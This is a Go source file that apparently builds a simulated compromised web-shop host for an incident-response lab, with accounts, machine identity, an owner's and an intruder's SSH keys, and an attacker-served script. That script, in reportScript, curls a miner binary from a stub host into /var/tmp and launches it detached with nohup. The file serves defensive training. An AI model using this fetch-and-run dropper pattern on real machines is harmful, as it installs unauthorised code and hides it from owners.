package lab

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io/fs"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

// Numbers of accounts: the shop's, a normal user's, and the one that deploys.
const (
	shopUID   = 901
	linUID    = 1100
	deployUID = 1101
)

// furnish lays out the host's disk and the world's before either runs.
func (h *Host) furnish(ctx context.Context) error {
	world := &tree{upper: filepath.Join(h.Folder, "world/upper")}
	world.strip()
	for _, p := range []string{"world", "sale", "standin"} {
		world.copy(filepath.Join(h.Folder, "bin", p), "/opt/lab/"+p, 0o755)
	}
	world.write(file{path: "/opt/lab/report.sh", text: h.reportScript()})
	world.dir("/root/.ssh", 0o700, 0, 0)
	if world.err != nil {
		return fmt.Errorf("lay out the world: %w", world.err)
	}
	keys, err := makeKeys(ctx, world.at("/root/.ssh"))
	if err != nil {
		return err
	}

	t := &tree{upper: filepath.Join(h.Folder, "upper")}
	t.strip()
	_, h.Facts.Zone = zone(time.Now())
	identity(t, h.Facts.Zone)
	accounts(t)
	units(t, h)
	shop(t, h)
	schedules(t, h.Config.Cron)
	for _, f := range setups(h.Config.Firewall).files {
		t.write(f)
	}
	for link, to := range alternatives(h.Config.Firewall) {
		t.link(link, to)
	}
	past(t, h, keys)
	if t.err != nil {
		return fmt.Errorf("lay out the host: %w", t.err)
	}
	// The host's own keys, made anew; the machine's must not be shared.
	if out, err := exec.CommandContext(ctx, "ssh-keygen", "-A", "-f", t.upper).CombinedOutput(); err != nil {
		return fmt.Errorf("make the host's ssh keys: %w: %s", err, out)
	}
	h.Facts.OwnerKey, h.Facts.OwnerFrom = keys["owner"].fingerprint, OperatorV4
	h.Facts.Intruder.Key = keys["intruder"].fingerprint
	return nil
}

// reportScript is what the intruder's server answers: harmless, and shaped as such scripts are.
func (h *Host) reportScript() string {
	flags := ""
	if h.Config.Threads > 0 {
		flags = fmt.Sprintf(" -threads %d", h.Config.Threads)
	}
	if h.Config.Scenario == "twins" {
		flags = " -threads 1 -percent 3" // as its many siblings
	}
	return `#!/bin/sh
# demine lab: starts the harmless stand-in for a miner
pgrep -x minerd >/dev/null && exit 0
curl -fsSL http://` + StubAddr + `/minerd -o /var/tmp/minerd && chmod +x /var/tmp/minerd &&
setsid nohup /var/tmp/minerd` + flags + ` >/dev/null 2>&1 &
`
}

// identity is what makes the host another machine than this one.
func identity(t *tree, offset int) {
	id := make([]byte, 16)
	rand.Read(id)
	text := hex.EncodeToString(id)
	t.write(file{path: "/etc/machine-id", text: text + "\n", mode: 0o444})
	t.write(file{path: "/var/lib/dbus/machine-id", text: text + "\n"})
	t.write(file{path: "/etc/hostname", text: "shop01\n"})
	t.write(file{path: "/etc/hosts", text: "127.0.0.1 localhost\n::1 localhost\n" + HostV4 + " shop01\n"})
	t.write(file{path: "/etc/resolv.conf", text: "nameserver " + gatewayV4 + "\n"})
	t.write(file{path: "/etc/fstab", text: ""})
	t.write(file{path: "/etc/localtime", text: string(tzif(offset))})
	t.hide("/etc/timezone")
	t.dir("/var/log/journal", 0o755|fs.ModeSetgid, 0, 0)
	for _, name := range []string{"btmp", "lastlog"} {
		t.write(file{path: "/var/log/" + name, mode: 0o664})
	}
	t.dir("/var/cache/apt/archives/partial", 0o755, 0, 0)
	for _, dir := range []string{"bin", "sbin", "lib", "share", "etc"} {
		t.dir("/usr/local/"+dir, 0o755, 0, 0)
	}
}

func accounts(t *tree) {
	t.add("/etc/passwd", fmt.Sprintf("shop:x:%d:%d:flash sale:/opt/shop:/usr/sbin/nologin\nlin:x:%d:%d:Lin:/home/lin:/bin/bash\ndeploy:x:%d:%d:deploy:/home/deploy:/bin/bash\n",
		shopUID, shopUID, linUID, linUID, deployUID, deployUID))
	t.add("/etc/group", fmt.Sprintf("shop:x:%d:\nlin:x:%d:\ndeploy:x:%d:\n", shopUID, linUID, deployUID))
	t.add("/etc/shadow", "shop:!:20000::::::\nlin:!:20000::::::\ndeploy:!:20000::::::\n")
	t.dir("/home/lin", 0o750, linUID, linUID)
	t.dir("/home/lin/bin", 0o755, linUID, linUID)
	t.write(file{path: "/home/lin/bin/disk.sh", text: "#!/bin/sh\ndf -h / | tail -1\n", mode: 0o755, uid: linUID, gid: linUID})
	t.dir("/home/deploy", 0o750, deployUID, deployUID)
	t.write(file{path: "/root/.bashrc", text: "export HISTTIMEFORMAT='%F %T '\nPS1='[\\u@\\h \\W]\\$ '\n"})
}

// key is a pair made with ssh-keygen.
type key struct{ public, fingerprint string }

// makeKeys leaves the private keys in the world: none of them belongs on the host.
func makeKeys(ctx context.Context, dir string) (map[string]key, error) {
	keys := map[string]key{}
	for name, comment := range map[string]string{"owner": "wang@office", "intruder": "root@vps"} {
		at := filepath.Join(dir, name)
		if out, err := exec.CommandContext(ctx, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", at).CombinedOutput(); err != nil {
			return nil, fmt.Errorf("make key %s: %w: %s", name, err, out)
		}
		public, err := exec.CommandContext(ctx, "cat", at+".pub").Output()
		if err != nil {
			return nil, err
		}
		shown, err := exec.CommandContext(ctx, "ssh-keygen", "-l", "-f", at+".pub").Output()
		if err != nil {
			return nil, err
		}
		f := strings.Fields(string(shown))
		if len(f) < 2 {
			return nil, fmt.Errorf("ssh-keygen -l said %q", shown)
		}
		keys[name] = key{strings.TrimSpace(string(public)), f[1]}
	}
	return keys, nil
}
